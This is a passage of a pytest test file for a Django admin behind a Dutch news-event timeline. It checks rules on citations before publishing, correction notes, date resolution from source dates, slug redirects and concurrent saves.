                answers.append("conflict")
            else:
                answers.append(f"error: {response.status_code}")

        threads = [threading.Thread(target=save, args=form) for form in forms]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    print("concurrent saves:", {a: answers.count(a) for a in set(answers)})
    assert sorted(answers) == ["conflict"] * 10 + ["saved"] * 10


# -- no unsourced published fact (issue 16) -----------------------------------------------------

NO_CITATION = {"citations-0-source": "", "citations-0-quote": ""}


def test_it_refuses_to_publish_without_a_citation_and_saves_nothing(desk):
    counts = (Event.objects.count(), Participation.objects.count())
    data = new_event_data(desk, edtf="2022-01-26", published="on", **NO_CITATION)
    response = desk.post(ADD, data)
    assert response.status_code == 200
    assert "Publiceren kan alleen met minstens één citaat" in text(response)
    assert (Event.objects.count(), Participation.objects.count()) == counts


def test_it_words_the_refusal_in_english_for_an_english_editor(seed):
    # Which language the admin speaks to whom is the other half of issue 16; the words are ready.
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        Event(published=True).require_source(["  "])
    with translation.override("en"):
        assert refused.value.message_dict["published"] == [
            "Publishing needs at least one citation: the sentence in the source that says so. "
            "Add a citation with its source, or save the event as a draft (not published)."
        ]
    Event(published=False).require_source([])  # a draft needs none


def test_it_saves_a_draft_without_a_citation(desk):
    response = desk.post(ADD, new_event_data(desk, edtf="2022-01-26", **NO_CITATION))
    assert response.status_code == 302, text(response)
    event = Event.objects.get(slug="lavrov-spreekt-blinken")
    assert (event.published, event.citations.count()) == (False, 0)


def test_it_publishes_with_the_citation_entered_in_the_same_form(desk, client):
    response = desk.post(ADD, new_event_data(desk, date_text="woensdag", published="on"))
    assert response.status_code == 302, text(response)
    event = Event.objects.get(slug="lavrov-spreekt-blinken")
    assert event.published and event.citations.get().quote.startswith("Lavrov en Blinken")
    assert client.get(event.get_absolute_url()).status_code == 200


def test_it_refuses_to_delete_the_last_citation_of_a_published_event(desk):
    event = Event.objects.get(slug=CALL)
    data = form_data(desk.get(change_url(event)))
    for key in [k for k in data if k.startswith("citations-") and k.endswith("-id") and data[k]]:
        data[key.removesuffix("id") + "DELETE"] = "on"
    response = desk.post(change_url(event), data)
    assert response.status_code == 200
    assert "Publiceren kan alleen met minstens één citaat" in text(response)
    assert event.citations.count() == 1


def test_it_does_not_bulk_publish_a_draft_without_a_citation(desk, client):
    desk.post(ADD, new_event_data(desk, edtf="2022-01-26", **NO_CITATION))
    bare = Event.objects.get(slug="lavrov-spreekt-blinken")
    cited = Event.objects.get(slug=LETTER)
    Event.objects.filter(pk=cited.pk).update(published=False)
    response = desk.post(
        CHANGELIST, {"action": "publish", "_selected_action": [bare.pk, cited.pk]}, follow=True
    )
    html = text(response)
    assert "1 gebeurtenis gepubliceerd" in html
    assert "Niet gepubliceerd, want zonder citaat: Lavrov spreekt Blinken" in html
    assert not Event.objects.get(pk=bare.pk).published
    assert Event.objects.get(pk=cited.pk).published
    assert client.get(bare.get_absolute_url()).status_code == 404


def test_it_imports_nothing_when_a_published_row_has_no_quote_and_says_why(desk):
    unsourced = dict(GOOD[0], Slug="zonder-bron", Quote="", Source="", Published="1")
    draft = dict(GOOD[1], Slug="concept-zonder-bron", Quote="", Source="", Published="0")
    _, html = _import(desk, _rows(GOOD[0], unsourced, draft).export("csv").encode(),
                      "events.csv", "0")  # fmt: skip
    assert "<td>2</td><td>Published: Publiceren kan alleen met minstens één citaat" in html
    assert "Niet te importeren: fouten in rij 2." in html
    assert not Event.objects.filter(slug__in=["vs-brief", "zonder-bron"]).exists()
    # A draft without a quote is no problem.
    response, html = _import(desk, _rows(draft).export("csv").encode(), "events.csv", "0")
    _confirm(desk, response)
    assert not Event.objects.get(slug="concept-zonder-bron").published


def test_it_reads_the_date_against_the_source_chosen_in_an_unsaved_citation(desk):
    # The preview asks with the form's first chosen source, saved or not.
    month_only = Source.objects.create(
        slug="nos-januari", outlet="NOS", title="Januari", published_on="2022-01-01",
        published_precision="month",
    )  # fmt: skip
    answer = desk.get(RESOLVE, {"text": "26 januari", "source": month_only.pk}).json()
    assert (answer["edtf"], answer["source"]) == ("2022-01-26", "nos-januari")
    assert answer["read_from"] == "gelezen vanaf de publicatiedatum van NOS: Januari (januari 2022)"


def test_it_refuses_a_relative_date_without_a_source_rather_than_read_it_from_today(desk):
    for phrase in ("gisteren", "woensdag"):
        answer = desk.get(RESOLVE, {"text": phrase}).json()
        assert answer["source"] is None
        assert answer["error"] == (
            f"'{phrase}' hangt af van de publicatiedatum van de bron, en er is nog geen bron "
            "gekozen; kies eerst de bron bij de citaten, of typ de datum zelf (bijvoorbeeld "
            "2022-01-26)"
        )
    answer = desk.get(RESOLVE, {"text": "26 januari 2022"}).json()
    assert answer["edtf"] == "2022-01-26"
    assert answer["read_from"] == (
        "zonder bron: alleen een datum die niet van de publicatiedatum afhangt"
    )
    # Saving says the same, and saves nothing.
    response = desk.post(ADD, new_event_data(desk, date_text="gisteren", **NO_CITATION))
    assert response.status_code == 200
    assert "hangt af van de publicatiedatum van de bron" in text(response)
    assert not Event.objects.filter(slug="lavrov-spreekt-blinken").exists()


# -- public corrections, asked on the form (issue 16) ---------------------------------------------


def test_it_asks_for_a_correction_only_on_a_published_event(desk):
    html = text(desk.get(change_url(Event.objects.get(slug=CALL))))
    assert 'name="is_correction"' in html and 'name="correction_note"' in html
    assert 'src="/static/admin-extra/correction.js"' in html
    Event.objects.filter(slug=CALL).update(published=False)
    assert 'name="is_correction"' not in text(desk.get(change_url(Event.objects.get(slug=CALL))))


def test_it_records_a_correction_with_its_note_after_the_change(desk, editor):
    event = Event.objects.get(slug=CALL)
    data = form_data(desk.get(change_url(event)))
    data.update(
        date_text="woensdag", is_correction="on",
        correction_note="Het gesprek was op woensdag, niet op vrijdag.",
    )  # fmt: skip
    response = desk.post(change_url(event), data)
    assert response.status_code == 302, text(response)
    correction = event.corrections.get()
    assert correction.note == "Het gesprek was op woensdag, niet op vrijdag."
    assert correction.language == "nl"
    event.refresh_from_db()
    assert event.edtf == "2022-01-26"
    record = event.history.first()
    assert record.history_change_reason == "correctie: Het gesprek was op woensdag, niet op vrijdag."
    assert record.history_user == editor


def test_it_needs_a_note_for_a_correction_and_a_tick_for_a_note(desk):
    event = Event.objects.get(slug=CALL)
    data = form_data(desk.get(change_url(event)))
    data.update(title="Poetin belt Macron", is_correction="on")
    response = desk.post(change_url(event), data)
    assert response.status_code == 200
    assert "Schrijf voor de lezers wat er gecorrigeerd is" in text(response)
    data.pop("is_correction")
    data["correction_note"] = "De titel was onjuist."
    response = desk.post(change_url(event), data)
    assert "vink ‘Dit is een correctie’ aan" in text(response)
    event.refresh_from_db()
    assert event.title != "Poetin belt Macron" and not event.corrections.exists()


def test_an_edit_that_is_no_correction_records_none(desk):
    event = Event.objects.get(slug=CALL)
    data = form_data(desk.get(change_url(event)))
    data["summary"] = "Een betere samenvatting."
    assert desk.post(change_url(event), data).status_code == 302
    assert not event.corrections.exists()


# -- a slug changed in the admin keeps every old link working (issue 16) ----------------------------


def test_it_sends_the_old_address_on_after_the_editor_renames_an_event(desk, client):
    event = Event.objects.get(slug=CALL)
    old = event.get_absolute_url()
    data = form_data(desk.get(change_url(event)))
    data["slug"] = "poetin-belt-macron"
    assert desk.post(change_url(event), data).status_code == 302
    response = client.get(old)
    assert response.status_code == 301
    assert response["Location"] == "/events/poetin-belt-macron/"
    assert client.get(response["Location"]).status_code == 200


def test_it_keeps_the_last_quote_of_a_published_event_on_the_citation_pages(desk):
    citation = Event.objects.get(slug=CALL).citations.get()
    url = f"/admin/timeline/citation/{citation.pk}/delete/"
    assert desk.post(url, {"post": "yes"}).status_code == 403
    assert Citation.objects.filter(pk=citation.pk).exists()
    changelist = text(desk.get("/admin/timeline/citation/"))
    assert 'value="delete_selected"' not in changelist
    Event.objects.filter(slug=CALL).update(published=False)  # a draft may lose it
    assert desk.post(url, {"post": "yes"}).status_code == 302
    assert not Citation.objects.filter(pk=citation.pk).exists()


def test_it_refuses_to_move_the_last_quote_of_a_published_event_to_another_event(desk):
    call = Event.objects.get(slug=CALL)
    citation = call.citations.get()
    url = f"/admin/timeline/citation/{citation.pk}/change/"
    data = form_data(desk.get(url), form_id="citation_form")
    data["event"], data["position"] = str(Event.objects.get(slug=LETTER).pk), "9"  # a free place there

    response = desk.post(url, data)

    assert response.status_code == 200
    assert f"‘{call.title}’ is gepubliceerd en dit is zijn enige citaat" in text(response)
    assert Citation.objects.get(pk=citation.pk).event == call
    # With a second quote the event keeps one, and the citation may go.
    call.citations.create(source=citation.source, position=citation.position + 1, quote="Macron belde terug.")
    assert desk.post(url, data).status_code == 302
    assert Citation.objects.get(pk=citation.pk).event.slug == LETTER
    assert call.citations.get().quote == "Macron belde terug."


def test_it_lets_a_citation_of_a_draft_move(desk):
    Event.objects.filter(slug=CALL).update(published=False)
    citation = Event.objects.get(slug=CALL).citations.get()
    url = f"/admin/timeline/citation/{citation.pk}/change/"
    data = form_data(desk.get(url), form_id="citation_form")
    data["event"], data["position"] = str(Event.objects.get(slug=LETTER).pk), "9"  # a free place there

    assert desk.post(url, data).status_code == 302
    assert Citation.objects.get(pk=citation.pk).event.slug == LETTER
